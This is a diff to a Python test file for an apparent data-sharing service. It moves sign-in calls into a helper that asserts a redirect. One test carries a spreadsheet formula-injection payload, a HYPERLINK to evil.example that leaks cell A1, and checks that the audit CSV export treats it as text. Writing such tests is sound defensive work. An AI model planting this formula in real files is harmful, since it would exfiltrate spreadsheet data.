@@ -24,6 +24,7 @@ from civicshare.cli import app as cli_app
 from civicshare.config import Settings
 from civicshare.datasets import service as datasets
 from civicshare.partners import service as partners
+from tests.conftest import post_sign_in
 
 PURPOSE = "Plan care packages for people leaving hospital this week."
 ANALYST = "analyst@worcestershire-cc.example"
@@ -95,7 +96,7 @@ def api_csv(client, token, purpose=PURPOSE) -> bytes:
 
 def web_csv(client, store, token) -> bytes:
     client.cookies.clear()
-    client.post("/sign-in", data={"email": ANALYST, "password": demo.DEMO_PASSWORD})
+    assert post_sign_in(client, ANALYST, demo.DEMO_PASSWORD).status_code == 303
     page = client.get("/share")
     csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
     response = client.post(
@@ -173,7 +174,7 @@ def test_a_purpose_starting_with_equals_reaches_audit_csv_as_text(client, token)
     purpose = '=HYPERLINK("http://evil.example/?leak="&A1,"Plan discharges")'
     api_csv(client, token, purpose=purpose)
     client.cookies.clear()
-    client.post("/sign-in", data={"email": HOST_IG_LEAD, "password": demo.DEMO_PASSWORD})
+    assert post_sign_in(client, HOST_IG_LEAD, demo.DEMO_PASSWORD).status_code == 303
     exported = client.get("/audit.csv", params={"action": "share_allowed"})
     client.cookies.clear()
     assert exported.status_code == 200, exported.text[:300]
